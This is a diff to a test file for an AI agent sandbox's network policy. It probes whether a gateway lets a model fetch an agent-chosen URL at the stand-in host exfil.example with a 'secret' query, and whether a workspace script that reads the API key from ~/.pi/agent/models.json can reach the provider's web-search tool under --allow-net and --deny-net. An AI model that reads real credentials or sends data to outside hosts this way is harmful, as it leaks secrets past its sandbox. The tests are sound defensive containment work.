@@ -396,7 +396,9 @@ const post = async (body, tries = 3) => {
   console.log("tools-request", r1.status);
   const r2 = await post({ messages: [{ role: "user", content: [{ type: "image", source: { type: "url", url: "https://exfil.example/img.png?d=probe-secret" } }] }] });
   console.log("url-request", r2.status, (await r2.text()).includes("a URL the agent chose"));
-} catch (e) { console.log("probe-failed", e.message, e.cause && (e.cause.code || e.cause.message)); } })();
+} catch (e) { console.log("probe-failed", e.message, e.cause && (e.cause.code || e.cause.message)); }
+// (agentOS's node keeps the process alive ~70 s after a fetch, the connection kept open: the probe ends itself.)
+process.exit(0); })();
 `,
       );
       const record = await recordFile();
@@ -432,6 +434,35 @@ const post = async (body, tries = 3) => {
       }
     } finally {
       await upstream.close();
+    }
+  });
+
+  test("a policy that grants every host (--allow-net) lets the provider's own network tools through; a deny of any host keeps them out", async () => {
+    const KEY = "sk-ant-fake-worker-allnet-0123456789";
+    const ws = await workspace();
+    await writeFile(
+      join(ws, "search.js"),
+      `const { baseUrl, apiKey } = JSON.parse(require("fs").readFileSync(process.env.HOME + "/.pi/agent/models.json", "utf8")).providers.anthropic;
+fetch(baseUrl + "/v1/messages", { method: "POST", headers: { "x-api-key": apiKey, "content-type": "application/json" }, body: JSON.stringify({ model: "claude-sonnet-4-5", max_tokens: 50, tools: [{ type: "web_search_20250305", name: "web_search" }], messages: [{ role: "user", content: "search probe" }] }) })
+  .then((r) => console.log("search-request", r.status), (e) => console.log("probe-failed", e.message))
+  .then(() => process.exit(0));
+`,
+    );
+    for (const [flags, passes] of [[["--allow-net"], true], [["--allow-net", "--deny-net=exfil.example"], false]] as const) {
+      const upstreamRecord = await recordFile();
+      const upstream = await startGateway({ model: "scripted", token: KEY, recordFile: upstreamRecord, script: { steps: [{ tool: "bash", input: { command: "node /workspace/search.js" } }, { text: "searched" }, { text: "done" }] } as any });
+      try {
+        const r = await runBin(["run", "--cwd", ws, "--model", "anthropic/claude-sonnet-4-5", "--prompt", "search", ...flags, "--task-key", `allnet-${passes}`], {
+          env: { ...env(), ANTHROPIC_API_KEY: KEY, ANTHROPIC_BASE_URL: upstream.url },
+        });
+        expect(r.code).toBe(0);
+        expect(events(r.stdout).find((e) => e.type === "tool_result")?.content ?? r.stdout).toContain("search-request 200");
+        const upstreamSaw = await readFile(upstreamRecord, "utf8");
+        expect(upstreamSaw).toContain("search probe");
+        expect({ flags, webSearch: upstreamSaw.includes("web_search_20250305") }).toEqual({ flags, webSearch: passes });
+      } finally {
+        await upstream.close();
+      }
     }
   });
 
